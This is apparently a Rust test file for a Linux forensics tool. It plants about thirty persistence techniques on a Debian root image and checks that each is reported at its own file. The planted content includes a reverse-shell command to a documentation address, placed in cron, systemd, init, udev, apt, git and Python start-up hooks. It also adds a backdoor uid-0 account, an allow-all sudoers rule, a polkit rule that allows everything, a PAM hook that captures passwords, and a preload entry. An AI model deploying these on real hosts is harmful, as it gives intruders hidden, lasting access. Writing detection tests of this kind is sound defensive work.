//! Thirty-odd ways in which an intruder stays on a host, planted on a whole Debian root at once:
//! each must be named at its own file. The list follows the modules of the public PANIX tool, with
//! inert payloads and addresses that belong to documentation (RFC 5737).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)] // tests
#![cfg_attr(not(feature = "real-roots"), allow(dead_code, unused_imports))]

mod support;

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use coroner_core::{Finding, Level, Report, Severity};
use support::{append, audit, copy_of, lab, plant, shown};

const SHELL: &str = "/bin/bash -c 'sh -i >& /dev/tcp/192.0.2.1/4444 0>&1'";
const DETACHED: &str = "setsid nohup bash -c 'sh -i >& /dev/tcp/192.0.2.1/4444 0>&1' &";

/// A technique: its name, how it is planted, and the file that a finding must name.
type Technique = (&'static str, fn(&Path), &'static str);

const SCHEDULED: &[Technique] = &[
    (
        "at",
        |root| {
            let job =
                format!("#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd /root || exit 1\n{SHELL}\n");
            plant(root, "/var/spool/cron/atjobs/a0000101abcdef", job, 0o700);
        },
        "/var/spool/cron/atjobs/a0000101abcdef",
    ),
    (
        "cron.d",
        |root| {
            plant(
                root,
                "/etc/cron.d/freedesktop_timesync1",
                format!("* * * * * root {SHELL}\n"),
                0o644,
            );
        },
        "/etc/cron.d/freedesktop_timesync1",
    ),
    (
        "crontab",
        |root| plant(root, "/var/spool/cron/crontabs/root", format!("* * * * * {SHELL}\n"), 0o600),
        "/var/spool/cron/crontabs/root",
    ),
    (
        "cron.daily",
        |root| plant(root, "/etc/cron.daily/locate", format!("#!/bin/sh\n{SHELL}\n"), 0o755),
        "/etc/cron.daily/locate",
    ),
    (
        "a maintainer script from cron",
        |root| {
            plant(
                root,
                "/var/lib/dpkg/info/panix.postinst",
                format!("#!/bin/sh\n{DETACHED}\n"),
                0o755,
            );
            let entry = "*/1 * * * * root /var/lib/dpkg/info/panix.postinst configure\n";
            plant(root, "/etc/cron.d/pkg", entry, 0o644);
        },
        "/etc/cron.d/pkg",
    ),
];

const ACCOUNTS: &[Technique] = &[
    (
        "a second uid 0",
        |root| append(root, "/etc/passwd", "svc:x:0:0::/root:/bin/bash\n"),
        "/etc/passwd",
    ),
    (
        "a hash in passwd",
        |root| {
            append(
                root,
                "/etc/passwd",
                "web:$1$Xc4Vb6n8$0Q3dYh6v4mJt1uYfXr5kE.:0:0:root:/root:/bin/bash\n",
            );
        },
        "/etc/passwd",
    ),
    (
        "a disguised shell",
        |root| {
            std::fs::copy(root.join("usr/bin/dash"), root.join("usr/sbin/nologin ")).unwrap();
            let passwd = std::fs::read_to_string(root.join("etc/passwd")).unwrap();
            let line = "news:x:9:9:news:/var/spool/news:/usr/sbin/nologin";
            std::fs::write(root.join("etc/passwd"), passwd.replace(line, &format!("{line} ")))
                .unwrap();
        },
        "/etc/passwd",
    ),
    (
        "a key for a system account",
        |root| {
            let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBlY0mYbZ0o7qg1h7r8d9s0a1b2c3d4e5f6g7h8i9j0k x\n";
            plant(root, "/var/spool/news/.ssh/authorized_keys", key, 0o644);
        },
        "/var/spool/news/.ssh/authorized_keys",
    ),
    (
        "sudo for everything",
        |root| plant(root, "/etc/sudoers.d/news", "news ALL=(ALL:ALL) NOPASSWD:ALL\n", 0o440),
        "/etc/sudoers.d/news",
    ),
    (
        "polkit allows all",
        |root| {
            let rule =
                "polkit.addRule(function(action, subject) {\n    return polkit.Result.YES;\n});\n";
            plant(root, "/etc/polkit-1/rules.d/99-panix.rules", rule, 0o644);
        },
        "/etc/polkit-1/rules.d/99-panix.rules",
    ),
    (
        "a script gets passwords",
        |root| {
            append(
                root,
                "/etc/pam.d/common-auth",
                "auth optional pam_exec.so quiet expose_authtok /var/log/spy.sh\n",
            );
            plant(root, "/var/log/spy.sh", "#!/bin/sh\ncat >> /var/log/panix.log\n", 0o700);
        },
        "/etc/pam.d/common-auth",
    ),
];

const BOOT: &[Technique] = &[
    (
        "a unit that squats a name",
        |root| {
            let unit =
                format!("[Service]\nExecStart={SHELL}\n[Install]\nWantedBy=multi-user.target\n");
            plant(
                root,
                "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service",
                unit,
                0o644,
            );
            let timer = "[Timer]\nOnCalendar=*:*:00\n[Install]\nWantedBy=timers.target\n";
            plant(
                root,
                "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer",
                timer,
                0o644,
            );
        },
        "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service",
    ),
    (
        "a user unit",
        |root| {
            let unit =
                format!("[Service]\nExecStart={SHELL}\n[Install]\nWantedBy=default.target\n");
            plant(root, "/root/.config/systemd/user/dbus.service", unit, 0o644);
        },
        "/root/.config/systemd/user/dbus.service",
    ),
    (
        "a generator",
        |root| {
            let script = format!(
                "#!/bin/sh\ncat <<E >/run/systemd/system/g.service\n[Service]\nExecStart={SHELL}\nE\n"
            );
            plant(root, "/usr/lib/systemd/system-generators/makecon", script, 0o755);
        },
        "/lib/systemd/system-generators/makecon",
    ),
    (
        "an override of a unit",
        |root| {
            let drop_in = format!("[Service]\nExecStartPost={SHELL}\n");
            plant(root, "/etc/systemd/system/ssh.service.d/override.conf", drop_in, 0o644);
        },
        "/etc/systemd/system/ssh.service.d/override.conf",
    ),
    (
        "an init script",
        |root| {
            let script = format!(
                "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: ssh sshd\n# Default-Start: 2 3 4 5\n### END INIT INFO\n{DETACHED}\n"
            );
            plant(root, "/etc/init.d/ssh-procps", script, 0o755);
            symlink("../init.d/ssh-procps", root.join("etc/rc2.d/S01ssh-procps")).unwrap();
        },
        "/etc/init.d/ssh-procps",
    ),
    (
        "rc.local",
        |root| plant(root, "/etc/rc.local", format!("#!/bin/sh\n{DETACHED}\n"), 0o755),
        "/etc/rc.local",
    ),
    (
        "init= for the kernel",
        |root| {
            let config = "GRUB_CMDLINE_LINUX_DEFAULT=\"quiet init=/grub-panix.sh\"\n";
            plant(root, "/etc/default/grub.d/99-panix.cfg", config, 0o644);
            plant(
                root,
                "/grub-panix.sh",
                format!("#!/bin/sh\n{DETACHED}\nexec /sbin/init\n"),
                0o755,
            );
        },
        "/etc/default/grub.d/99-panix.cfg",
    ),
    (
        "udev",
        |root| {
            let rule =
                "ACTION==\"add\", ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\", RUN+=\"/usr/bin/sedexp\"\n";
            plant(root, "/etc/udev/rules.d/10-sedexp.rules", rule, 0o644);
            plant(root, "/usr/bin/sedexp", format!("#!/bin/sh\n{DETACHED}\n"), 0o755);
        },
        "/etc/udev/rules.d/10-sedexp.rules",
    ),
    (
        "D-Bus activation",
        |root| {
            let service = "[D-BUS Service]\nName=org.panix.persistence\nExec=/usr/local/bin/dbus-panix.sh\nUser=root\n";
            plant(
                root,
                "/usr/share/dbus-1/system-services/org.panix.persistence.service",
                service,
                0o644,
            );
            plant(
                root,
                "/usr/local/bin/dbus-panix.sh",
                format!("#!/bin/bash\n{DETACHED}\n"),
                0o755,
            );
        },
        "/usr/local/bin/dbus-panix.sh",
    ),
    (
        "an unowned module that is loaded at boot",
        |root| {
            let drivers = "/lib/modules/6.1.0-18-amd64/kernel/drivers";
            plant(root, &format!("{drivers}/null.ko"), b"\x7fELF".repeat(64), 0o644);
            own(root, "linux-image-6.1.0-18-amd64", &format!("{drivers}/null.ko"));
            plant(root, &format!("{drivers}/panix.ko"), b"\x7fELF".repeat(65), 0o644);
            plant(root, "/etc/modules-load.d/panix.conf", "panix\n", 0o644);
        },
        "/etc/modules-load.d/panix.conf",
    ),
];

const HOOKS: &[Technique] = &[
    ("a profile", |root| append(root, "/etc/profile", &format!("{DETACHED}\n")), "/etc/profile"),
    (
        "a bashrc",
        |root| plant(root, "/root/.bashrc", format!("{DETACHED}\n"), 0o644),
        "/root/.bashrc",
    ),
    (
        "motd",
        |root| {
            plant(
                root,
                "/etc/update-motd.d/137-python-upgrades",
                format!("#!/bin/bash\n{DETACHED}\n"),
                0o755,
            );
        },
        "/etc/update-motd.d/137-python-upgrades",
    ),
    (
        "apt",
        |root| {
            let hook = format!("APT::Update::Pre-Invoke {{\"{DETACHED}\"}};\n");
            plant(root, "/etc/apt/apt.conf.d/01python-upgrades", hook, 0o644);
        },
        "/etc/apt/apt.conf.d/01python-upgrades",
    ),
    (
        "NetworkManager",
        |root| {
            let script = format!("#!/bin/sh\n{DETACHED}\n");
            plant(root, "/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh", script, 0o755);
        },
        "/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh",
    ),
    (
        "XDG autostart",
        |root| {
            let entry = "[Desktop Entry]\nType=Application\nName=x\nExec=/etc/xdg/pkc12-register\n";
            plant(root, "/etc/xdg/autostart/pkc12-register.desktop", entry, 0o644);
            plant(root, "/etc/xdg/pkc12-register", format!("#!/bin/bash\n{DETACHED}\n"), 0o755);
        },
        "/etc/xdg/autostart/pkc12-register.desktop",
    ),
    (
        "a git hook",
        |root| {
            plant(
                root,
                "/opt/app/.git/hooks/pre-commit",
                format!("#!/bin/bash\n{DETACHED}\n"),
                0o755,
            );
        },
        "/opt/app/.git/hooks/pre-commit",
    ),
    (
        "a git pager",
        |root| plant(root, "/root/.gitconfig", format!("[core]\n\tpager = {SHELL}\n"), 0o644),
        "/root/.gitconfig",
    ),
    (
        "a Python start-up file",
        |root| {
            let line =
                "import os; os.system(\"bash -c 'sh -i >& /dev/tcp/192.0.2.1/4444 0>&1' &\")\n";
            plant(root, "/usr/lib/python3/dist-packages/x.pth", line, 0o644);
        },
        "/usr/lib/python3/dist-packages/x.pth",
    ),
];

const PROGRAMS: &[Technique] = &[
    (
        "a preloaded library",
        |root| {
            plant(root, "/lib/preload_backdoor.so", b"\x7fELF".repeat(64), 0o755);
            plant(root, "/etc/ld.so.preload", "/lib/preload_backdoor.so\n", 0o644);
        },
        "/etc/ld.so.preload",
    ),
    (
        "a wrapped program",
        |root| {
            std::fs::rename(root.join("usr/bin/cat"), root.join("usr/bin/cat.original")).unwrap();
            let wrapper = format!("#!/bin/bash\n{DETACHED}\n/usr/bin/cat.original \"$@\"\n");
            plant(root, "/usr/bin/cat", wrapper, 0o755);
        },
        "/usr/bin/cat",
    ),
    (
        "set-uid on find",
        |root| {
            let find = root.join("usr/bin/find");
            std::fs::set_permissions(find, std::fs::Permissions::from_mode(0o4755)).unwrap();
        },
        "/usr/bin/find",
    ),
    (
        "a replaced PAM module",
        |root| {
            let module = "usr/lib/x86_64-linux-gnu/security/pam_unix.so";
            let mut bytes = std::fs::read(root.join(module)).unwrap();
            let middle = bytes.len() / 2;
            bytes[middle] ^= 0xff;
            std::fs::write(root.join(module), bytes).unwrap();
        },
        "/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
    ),
];

/// Gives a file to a package, as dpkg would.
fn own(root: &Path, package: &str, file: &str) {
    let stanza = format!(
        "\nPackage: {package}\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n"
    );
    append(root, "/var/lib/dpkg/status", &stanza);
    plant(root, &format!("/var/lib/dpkg/info/{package}.list"), format!("{file}\n"), 0o644);
}

fn names(report: &Report, path: &str) -> bool {
    report.findings.iter().any(|finding| {
        finding.severity >= Severity::Medium
            && finding.path.as_ref().is_some_and(|found| *found == path)
    })
}

#[test]
#[cfg_attr(not(feature = "real-roots"), ignore = "needs whole roots: run tests/run")]
fn every_way_to_stay_is_named_at_its_own_file() {
    let root = copy_of(&lab().join("bookworm"));
    let techniques: Vec<&Technique> =
        [SCHEDULED, ACCOUNTS, BOOT, HOOKS, PROGRAMS].into_iter().flatten().collect();
    for (_, planted, _) in &techniques {
        planted(root.path());
    }
    let (report, _) = audit(root.path(), &[]);
    assert_eq!(report.verdict.level, Level::Compromised);
    let missed: Vec<_> = techniques.iter().filter(|(_, _, path)| !names(&report, path)).collect();
    let missed: Vec<_> = missed.iter().map(|(name, _, path)| format!("{name}: {path}")).collect();
    let all: Vec<&Finding> = report.findings.iter().collect();
    assert!(missed.is_empty(), "missed {missed:#?}\nfound {:#?}", shown(&all));
}
